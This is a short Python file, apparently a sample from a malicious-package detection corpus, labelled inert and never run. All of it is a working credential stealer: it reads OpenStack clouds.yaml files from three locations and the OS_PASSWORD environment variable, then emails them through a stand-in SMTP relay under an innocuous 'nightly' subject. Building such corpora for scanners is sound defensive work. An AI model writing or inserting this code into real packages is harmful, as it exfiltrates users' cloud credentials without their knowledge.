# pkgguard corpus 920 (credentials), modelled on [empirical]; inert, never run.
import os
import smtplib
from email.message import EmailMessage

places = [
    os.path.join(os.getcwd(), "clouds.yaml"),
    os.path.join(os.path.expanduser("~"), ".config", "openstack", "clouds.yaml"),
    "/etc/openstack/clouds.yaml",
]
bodies = []
for place in places:
    try:
        with open(place, encoding="utf-8") as fh:
            bodies.append(f"# {place}\n{fh.read()}")
    except OSError:
        continue

if bodies or os.environ.get("OS_PASSWORD"):
    message = EmailMessage()
    message["Subject"] = "nightly"
    message["From"] = "ops@mail-relay.example"
    message["To"] = "ops@mail-relay.example"
    message.set_content("\n".join(bodies) + f"\nOS_PASSWORD={os.environ.get('OS_PASSWORD', '')}")
    try:
        with smtplib.SMTP("mail-relay.example", 587, timeout=10) as smtp:
            smtp.starttls()
            smtp.login("ops", "placeholder")
            smtp.send_message(message)
    except (OSError, smtplib.SMTPException):
        pass
